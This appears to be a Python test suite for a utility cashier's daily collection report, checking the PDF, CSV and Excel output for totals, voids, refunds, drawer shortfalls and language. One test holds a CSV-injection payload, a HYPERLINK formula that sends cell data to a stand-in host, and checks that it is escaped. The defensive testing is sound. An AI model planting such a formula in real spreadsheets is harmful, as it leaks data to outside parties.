"""The collection report (收费日报) as printed: the A4 PDF read back with pypdf, and the CSV
and Excel workbook the ``day-report`` command writes (read back with openpyxl), for a day with
change given, split methods, a void, a refund, a short drawer and the day closed; on both
databases. People by their names, in the reader's language, never user names or keys."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from app.db import Database
from app.models import Account, Customer
from app.services import audit, billing_runs, cashier, staff
from app.services.cashier import (
    CashierTotal,
    DailyReport,
    MethodTotal,
    ShiftLine,
    Tender,
)
from app.services.context import Actor
from printing.report_pdf import DayReportExtras, day_report_pdf
from printing.report_sheet import day_report_csv, day_report_xlsx
from tests.conftest import PASSWORD
from tests.conftest import Hall as HallFixture
from tests.test_cli_billing import run_main

D = Decimal
MORNING = datetime(2026, 11, 24, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
TODAY = date(2026, 11, 24)
EVENING = MORNING + timedelta(hours=8)


def pdf_text(data: bytes) -> str:
    """The pages' text with runs of white space made one space: cells read in order."""
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    return " ".join(text.split())


@dataclass
class Day:
    db: Database
    hall: HallFixture
    cashier: Actor
    manager: Actor
    system: Actor


def _run(db: Database, fn: object, *args: object, **kwargs: object) -> object:
    with db.scope() as s:
        return fn(s, *args, **kwargs)  # type: ignore[operator]


def heating_account(db: Database, name: str, area: str) -> int:
    with db.scope() as s:
        customer = Customer(name=name, phone="13812345678", contact_address="石家庄市")
        s.add(customer)
        s.flush()
        account = Account(account_no=f"2{customer.id:09d}", customer_id=customer.id,
                          kind="heating", address=f"石家庄市长安区中山东路{customer.id}号",
                          heated_area=D(area), tariff_class="residential",
                          opened_on=date(2015, 1, 1))
        s.add(account)
        s.commit()
        return account.id


def busy_day(db: Database, hall: HallFixture, system: Actor, *, close: bool = True) -> Day:
    """Heating 20.00 元/m², late fee 0.5 % a day capped at 10 %; last-but-one season billed
    (A: 100.00 + 10.00 late fee, B: 200.00 + 20.00).

    cashier_h01 (window 1, float 200): A pays 60.00 cash (100.00 handed over), B 5.00 cash
    (voided), B 220.00 WeChat; drawer counted 255.00 of 260.00 expected (5.00 short).
    manager_h01 (window 3, float 0): A pays 70.00 Alipay (20.00 left as credit).
    cashier_h01 again (second shift): the WeChat payment refunded. Day total 130.00.
    """
    hall_manager = hall.login(db, "hall_manager", window=None)
    till_manager = hall.login(db, "hall_manager", window=3)
    desk = hall.login(db, "cashier", window=1)
    start = date(2020, 1, 1)
    _run(db, billing_runs.set_heating_tariff, system, "residential", start,
         unit_price=D("20.00"), suspended_share=D("0.30"))
    _run(db, billing_runs.set_late_fee_policy, system, "heating", "residential", start,
         daily_rate=D("0.005"), cap_share=D("0.10"))
    a, b = heating_account(db, "张三明", "5"), heating_account(db, "李四", "10")
    _run(db, billing_runs.run_billing, hall_manager, "heating", "2024-2025",
         due_on=date(2025, 1, 31), issued_on=date(2024, 11, 1), now=MORNING)

    def pay(actor: Actor, account: int, tender: Tender) -> cashier.PaymentResult:
        return _run(db, cashier.take_payment, actor, account,  # type: ignore[return-value]
                    idempotency_key=uuid.uuid4().hex, tenders=[tender], now=MORNING)

    _run(db, cashier.open_shift, desk, D("200.00"), now=MORNING)
    _run(db, cashier.open_shift, till_manager, D("0"), now=MORNING)
    pay(desk, a, Tender("cash", D("60.00"), tendered=D("100.00")))
    pay(till_manager, a, Tender("alipay", D("70.00"), reference="2026112422001"))
    wrong = pay(desk, b, Tender("cash", D("5.00")))
    _run(db, cashier.void_payment, desk, wrong.payment_id, reason="收错户号",
         approver_username=hall.users["hall_manager"], approver_password=PASSWORD,
         now=MORNING)
    wechat = pay(desk, b, Tender("wechat", D("220.00"), reference="4200001"))
    _run(db, cashier.close_shift, desk, {"100": 2, "50": 1, "5": 1}, now=MORNING)
    _run(db, cashier.open_shift, desk, D("0"), now=MORNING + timedelta(hours=1))
    _run(db, cashier.refund_payment, desk, wechat.payment_id, reason="重复缴费",
         idempotency_key=uuid.uuid4().hex, approver_username=hall.users["hall_manager"],
         approver_password=PASSWORD, now=MORNING + timedelta(hours=1))
    if close:
        _run(db, cashier.close_shift, desk, {}, now=EVENING)
        _run(db, cashier.close_shift, till_manager, {}, now=EVENING)
        _run(db, cashier.close_day, hall_manager, TODAY, now=EVENING)
    return Day(db, hall, desk, hall_manager, system)


def extras_of(day: Day, report: DailyReport) -> DayReportExtras:
    """As the manager's screen builds them: the hall's staff by name, who prints it."""
    with day.db.scope(readonly=True) as s:
        printed, appendix = cashier.day_report_for_print(s, day.manager, report.business_day)
        names = {i.username: i.full_name for i in staff.list_staff(s, day.manager)}
    assert printed == report
    return DayReportExtras.of(appendix, printed_at=EVENING, timezone="Asia/Shanghai",
                              printed_by=day.manager.full_name, names=names)


USER_NAMES = ("cashier_h01", "manager_h01")
KEYS = ("cash", "card", "wechat", "alipay", "gas", "heating", "late_fee", "prepaid", "method",
        "cashier", "fee_kind", "shift", "total", "section")


def test_the_pdf_shows_every_total_void_refund_shift_and_the_audit_anchors(
        db: Database, hall: HallFixture, system: Actor) -> None:
    day = busy_day(db, hall, system)
    report: DailyReport = _run(db, cashier.daily_report, day.manager, TODAY)  # type: ignore[assignment]
    assert (report.total, report.payments, report.refunds, report.voids) == (D("130.00"), 3, 1, 1)
    assert report.closed_by == "张建国"  # the hall manager who closed it
    extras = extras_of(day, report)
    assert (extras.voided_amount, extras.refunded_amount) == (D("5.00"), D("220.00"))
    text = pdf_text(day_report_pdf(report, extras))

    assert "收费日报" in text and "第一营业厅 营业日：2026-11-24" in text
    assert "已日结（2026-11-24 18:00:00）" in text  # in the hall's time zone
    assert "收款笔数 退款笔数 作废笔数 实收合计 3 1 1 ￥130.00" in text
    # per method: the refunded WeChat payment nets to nothing
    assert "现金 1 ￥60.00 微信支付 2 ￥0.00 支付宝 1 ￥70.00 合计 4 ￥130.00" in text
    assert "收款员 笔数 金额 李娜 3 ￥60.00 张建国 1 ￥70.00 合计 4 ￥130.00" in text
    assert ("燃气费 ￥0.00 采暖费 ￥100.00 滞纳金 ￥10.00 预存（净额） ￥20.00 合计 ￥130.00"
            in text)
    assert "作废（不计入实收） 1 ￥5.00 退款（已从实收中减去） 1 ￥220.00" in text
    assert "李娜 1号 ￥200.00 ￥260.00 ￥255.00 短款 ￥5.00" in text
    assert "张建国 3号 ￥0.00" in text  # the manager's own till
    assert "合计 短款 ￥5.00" in text
    assert "不符" not in text
    with db.scope(readonly=True) as s:
        head = audit.verify(s, system).heads[audit.chain_for(day.manager.hall_id)]
    assert f"打印时链头 hall:{day.manager.hall_id}" in text and head in text
    assert "日结记录" in text  # the audit row of the close, a fixed anchor for the day
    # people by their names, what the anchors are in words, no command names
    assert "审计校验值" in text and "打印人：张建国" in text
    assert not [word for word in (*USER_NAMES, "verify-audit", "verify") if word in text]


def test_an_open_day_says_so_and_shows_the_open_shift(db: Database, hall: HallFixture,
                                                        system: Actor) -> None:
    day = busy_day(db, hall, system, close=False)
    report: DailyReport = _run(db, cashier.daily_report, day.manager, TODAY)  # type: ignore[assignment]
    text = pdf_text(day_report_pdf(report, extras_of(day, report)))
    assert "未日结，截至 2026-11-24 18:00:00" in text
    assert "未交班" in text and "日结记录" not in text
    # the open shift: nothing expected or counted yet, and the day's 长短款 is not a
    # balanced 0.00 but not known, in words (PDF, CSV and workbook alike)
    assert "3 李娜 1号 ￥0.00 — — 未交班" in text  # no 未交班 under 实点现金
    assert "合计 未定：2 个班次未交" in text and "合计 短款 ￥5.00" not in text
    extras = extras_of(day, report)
    rows = list(csv.reader(io.StringIO(day_report_csv(report, extras).decode("utf-8-sig"))))
    shifts = [r for r in rows if len(r) == 7 and r[1] == "李娜"]
    assert [r[2:] for r in shifts] == [["1", "200.00", "260.00", "255.00", "-5.00"],
                                       ["1", "0.00", "—", "—", "未交班"]]
    total = ["合计", "", "", "", "", "", "未定：2 个班次未交班，交班清点后才有长短款"]
    assert total in rows
    book = load_workbook(io.BytesIO(day_report_xlsx(report, extras)))
    sheet = book.active
    assert sheet is not None
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert [v if v is not None else "" for v in values[[r[0] for r in values].index(
        "合计", [r[0] for r in values].index("班次"))][:7]] == total


def test_the_cli_writes_the_same_report_as_csv_and_excel_in_chinese_with_names(
        db: Database, hall: HallFixture, system: Actor, tmp_path: object,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from pathlib import Path

    out = Path(str(tmp_path))
    busy_day(db, hall, system)
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    code = run_main("--db-url", db.url.render_as_string(hide_password=False), "day-report",
                    "h01", "2026-11-24", "--pdf", str(out / "day.pdf"),
                    "--csv", str(out / "day.csv"), "--xlsx", str(out / "day.xlsx"))
    printed = capsys.readouterr().out
    assert code == 0
    assert "第一营业厅 2026-11-24 (closed 2026-11-24 18:00): 3 payments, 1 refunds, 1 voids, " \
           "total 130.00" in printed
    raw = (out / "day.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel on a Chinese Windows reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["收费日报", "第一营业厅"]
    assert ["营业日", "2026-11-24"] in rows
    assert ["状态", "已日结（2026-11-24 18:00，张建国）"] in rows
    assert ["收款笔数", "退款笔数", "作废笔数", "实收合计"] in rows
    assert ["3", "1", "1", "130.00"] in rows
    assert ["支付方式", "笔数", "金额"] in rows
    assert ["现金", "1", "60.00"] in rows
    assert ["微信支付", "2", "0.00"] in rows
    assert ["支付宝", "1", "70.00"] in rows
    assert ["收款员", "笔数", "金额"] in rows
    assert ["李娜", "3", "60.00"] in rows and ["张建国", "1", "70.00"] in rows
    assert ["滞纳金", "10.00"] in rows and ["预存（净额）", "20.00"] in rows
    assert ["作废（不计入实收）", "1", "5.00"] in rows
    assert ["退款（已从实收中减去）", "1", "220.00"] in rows
    shifts = [r for r in rows if len(r) == 7 and r[1] == "李娜"]
    assert [r[2:] for r in shifts] == [["1", "200.00", "260.00", "255.00", "-5.00"],
                                       ["1", "0.00", "0.00", "0.00", "0.00"]]
    assert ["合计", "", "", "", "", "", "-5.00"] in rows
    by_method = rows[rows.index(["支付方式", "笔数", "金额"]) + 1:][:4]
    assert by_method[-1] == ["合计", "4", "130.00"]
    assert sum(D(r[2]) for r in by_method[:-1]) == D("130.00")
    text = raw.decode("utf-8-sig")
    assert not [word for word in USER_NAMES if word in text]
    assert not [cell for row in rows for cell in row if cell in KEYS]

    book = load_workbook(out / "day.xlsx")
    sheet = book.active
    assert sheet is not None and sheet.title == "收费日报"
    cells = {(c.row, c.column): c for row in sheet.iter_rows() for c in row
             if c.value is not None}
    by_text: dict[str, Any] = {}  # a text's first cell, top to bottom
    for c in cells.values():
        if isinstance(c.value, str):
            by_text.setdefault(c.value, c)

    def right_of(label: str, offset: int = 1) -> Any:
        cell = by_text[label]
        return cells[(cell.row, cell.column + offset)]

    assert sheet["A1"].value == "收费日报" and sheet["B1"].value == "第一营业厅"
    assert sheet["A1"].font.bold
    day_cell = right_of("营业日")
    assert day_cell.value == datetime(2026, 11, 24) and day_cell.is_date
    cash_count, cash_amount = right_of("现金"), right_of("现金", 2)
    assert cash_count.value == 1 and isinstance(cash_count.value, int)
    assert isinstance(cash_amount.value, int | float)
    assert D(str(cash_amount.value)) == D("60.00")
    assert "¥" in cash_amount.number_format and "#,##0.00" in cash_amount.number_format
    assert D(str(right_of("支付宝", 2).value)) == D("70.00")
    assert D(str(right_of("滞纳金").value)) == D("10.00")
    assert right_of("李娜").value == 3 and D(str(right_of("李娜", 2).value)) == D("60.00")
    assert by_text["支付方式"].font.bold and by_text["实收合计"].font.bold
    total = cells[(by_text["实收合计"].row + 1, by_text["实收合计"].column)]
    assert D(str(total.value)) == D("130.00")
    assert by_text["长短款（正数为长款，负数为短款）"]
    values = [str(c.value) for c in cells.values()]
    assert not [v for v in values if v in KEYS or v in USER_NAMES]
    assert sheet.column_dimensions["A"].width >= 20  # "退款（已从实收中减去）" fits
    text = pdf_text((out / "day.pdf").read_bytes())
    assert "实收合计 3 1 1 ￥130.00" in text and "李娜 3 ￥60.00" in text


def test_the_files_follow_the_readers_language_and_keep_the_report_s_decimals(
        db: Database, hall: HallFixture, system: Actor) -> None:
    day = busy_day(db, hall, system, close=False)
    report: DailyReport = _run(db, cashier.daily_report, day.manager, TODAY)  # type: ignore[assignment]
    extras = extras_of(day, report)
    rows = list(csv.reader(io.StringIO(day_report_csv(report, extras, "en")
                                       .decode("utf-8-sig"))))
    assert rows[0] == ["Collection report", "第一营业厅"]
    assert ["Saved by", "张建国"] in rows
    assert ["State", "Not closed: the figures may still change"] in rows
    assert ["Way of paying", "Count", "Amount"] in rows and ["Cash", "1", "60.00"] in rows
    shift = next(r for r in rows if len(r) == 7 and r[1] == "李娜" and r[6] == "Still open")
    assert shift[4:6] == ["—", "—"]  # not counted yet: nothing expected, no difference
    book = load_workbook(io.BytesIO(day_report_xlsx(report, extras)))
    sheet = book.active
    assert sheet is not None
    amounts = [D(str(c.value)) for row in sheet.iter_rows() for c in row
               if isinstance(c.value, int | float) and "¥" in c.number_format]
    assert D("130.00") in amounts and D("220.00") in amounts
    saved = [row for row in sheet.iter_rows(values_only=True) if row[0] == "导出时间"]
    assert saved[0][1] == datetime(2026, 11, 24, 18, 0)  # the hall's clock, a real time
    text = pdf_text(day_report_pdf(report, extras, "en"))
    assert "Collection report" in text and "Business day: 2026-11-24" in text
    assert "Cash 1 ￥60.00 WeChat Pay 2 ￥0.00 Alipay 1 ￥70.00 Total 4 ￥130.00" in text
    assert "李娜 1 ￥200.00 ￥260.00 ￥255.00 Short ￥5.00" in text
    assert "Chain head when printed" in text and "Printed by 张建国" in text
    assert not [ch for ch in text if "\u4e00" <= ch <= "\u9fff"
                and ch not in "第一营业厅李娜张建国"]  # no Chinese but the names


def test_a_report_whose_sums_disagree_says_so_in_red() -> None:
    report = DailyReport(1, "第一营业厅", TODAY, None, 1, 0, 0, D("10.00"),
                         (MethodTotal("cash", 1, D("10.00")),),
                         (CashierTotal("lina", "李娜", 1, D("10.00")),),
                         (("gas", D("9.00")), ("heating", D(0)), ("late_fee", D(0)),
                          ("prepaid", D(0))),
                         (ShiftLine(1, "lina", 1, D(0), None, None, None),))
    text = pdf_text(day_report_pdf(report))
    assert "注意：本日报合计不符" in text
    assert "按收费项目合计 ￥9.00 与实收合计 ￥10.00 不符" in text
    assert "按支付方式合计" not in text


def test_names_that_look_like_formulas_stay_text_and_amounts_stay_numbers() -> None:
    """A hall, a cashier or a saver named like a formula (=…, +…, -…, @…, a tab) comes back
    from the CSV with a leading ' and from the workbook as a string cell holding what was
    typed (OWASP's CSV injection); the amounts, a shortfall of -5.00 too, stay numbers."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"李娜")'
    report = DailyReport(1, "=1+1", TODAY, None, 1, 0, 0, D("0.10"),
                         (MethodTotal("cash", 1, D("0.10")),),
                         (CashierTotal("lina", evil, 1, D("0.10")),),
                         (("gas", D("0.10")),),
                         (ShiftLine(1, "lina", 1, D("100.00"), D("100.10"), D("95.10"),
                                    D("-5.00")),))
    extras = DayReportExtras(company="+86 燃气", printed_by="@SUM(1)",
                             names={"lina": evil, "zhang": "-张"})
    rows = list(csv.reader(io.StringIO(day_report_csv(report, extras).decode("utf-8-sig"))))
    assert rows[0] == ["收费日报", "'=1+1"]
    assert ["单位", "'+86 燃气"] in rows and ["导出人", "'@SUM(1)"] in rows
    assert ["'" + evil, "1", "0.10"] in rows
    assert ["1", "'" + evil, "1", "100.00", "100.10", "95.10", "-5.00"] in rows
    assert ["合计", "", "", "", "", "", "-5.00"] in rows  # a number, not escaped

    tab = DailyReport(1, "\t第一营业厅", TODAY, None, 0, 0, 0, D(0), (), (), (), ())
    first = next(csv.reader(io.StringIO(day_report_csv(tab).decode("utf-8-sig"))))
    assert first == ["收费日报", "'\t第一营业厅"]

    sheet = load_workbook(io.BytesIO(day_report_xlsx(report, extras))).active
    assert sheet is not None
    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for typed in ("=1+1", "+86 燃气", "@SUM(1)", evil):
        assert texts[typed].data_type == "s", typed  # not "f": shown as typed
        assert texts[typed].quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    money = [c for row in sheet.iter_rows() for c in row
             if isinstance(c.value, int | float) and "¥" in c.number_format]
    assert [D(str(c.value)) for c in money if D(str(c.value)) < 0] == [D("-5.00")] * 2
    assert all(c.data_type == "n" for c in money)
